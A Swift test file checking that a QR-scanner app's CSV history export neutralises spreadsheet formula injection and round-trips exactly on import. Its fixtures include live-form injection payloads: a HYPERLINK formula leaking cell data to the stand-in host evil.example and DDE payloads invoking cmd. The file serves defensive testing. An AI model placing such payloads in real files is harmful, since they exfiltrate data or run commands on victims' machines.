// SPDX-License-Identifier: GPL-3.0-or-later
import Testing

@testable import SaomaCore

/// CSV exports opened in a spreadsheet run no formula, and come back exactly on import.
@Suite("History CSV: formula injection")
struct HistoryCSVInjectionTests {
    /// A QR record holding `text` (and labelled `label`).
    static func record(_ text: String, label: String? = nil) -> HistoryRecord {
        HistoryRecord(timeMilliseconds: 1_764_495_000_000, source: .camera, format: "QR", text: text, bytes: Array(text.utf8), label: label)
    }

    /// Payloads a spreadsheet would run, and the cell they must become (as read by a CSV reader).
    static let formulas: [(String, String)] = [
        ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("   =1+1", "'   =1+1"),
        ("'already quoted", "''already quoted"),
        ("''", "'''"),
        ("safe = text", "safe = text"),
        ("https://example.org/?a=-1", "https://example.org/?a=-1"),
        (" x=1", " x=1"),
        ("", ""),
    ]

    @Test("formula-leading text and labels get a leading apostrophe", arguments: formulas)
    func neutralises(payload: String, cell: String) throws {
        let csv = HistoryFileFormat.csv.encode([Self.record(payload, label: payload.isEmpty ? nil : payload)])
        let rows = try csvRows(csv)
        #expect(rows.count == 2)
        #expect(rows[1][3] == cell, "text cell")
        if !payload.isEmpty { #expect(rows[1][5] == cell, "label cell") }
        #expect(rows[1][4] == Symbol.hex(Array(payload.utf8)), "bytes_hex is hex, never changed")
    }

    @Test("no cell of an export starts like a formula", arguments: formulas)
    func noLiveFormula(payload: String, cell: String) throws {
        let csv = HistoryFileFormat.csv.encode([Self.record(payload, label: payload)])
        for row in try csvRows(csv) {
            for field in row {
                let first = field.unicodeScalars.first { $0 != " " }
                #expect(!["=", "+", "-", "@", "\t", "\r"].contains(first) || field.hasPrefix("'"), "\(field.debugDescription)")
            }
        }
    }

    @Test("import gives back exactly what was exported, apostrophes and all", arguments: formulas)
    func roundTrip(payload: String, cell: String) throws {
        let records = [Self.record(payload, label: payload.isEmpty ? nil : payload)]
        #expect(try HistoryFileFormat.csv.decode(Array(HistoryFileFormat.csv.encode(records).utf8)) == records)
    }

    @Test("JSON Lines stays exact: no apostrophe is added")
    func jsonExact() {
        let line = HistoryFileFormat.jsonLines.encode([Self.record("=1+1", label: "@x")])
        #expect(line.contains("\"text\":\"=1+1\"") && line.contains("\"label\":\"@x\""))
    }

    /// The rows of `csv` as RFC 4180 reads them (quotes removed), for checking cells.
    func csvRows(_ csv: String) throws -> [[String]] {
        var rows: [[String]] = []
        var reader = HistoryCSVReader(maximumFieldBytes: 1 << 20, maximumFields: 16, fieldNames: [])
        try reader.feed(Array(csv.utf8)) { row in rows.append(row.fields.map { String(decoding: $0, as: UTF8.self) }) }
        try reader.finish { row in rows.append(row.fields.map { String(decoding: $0, as: UTF8.self) }) }
        return rows
    }
}
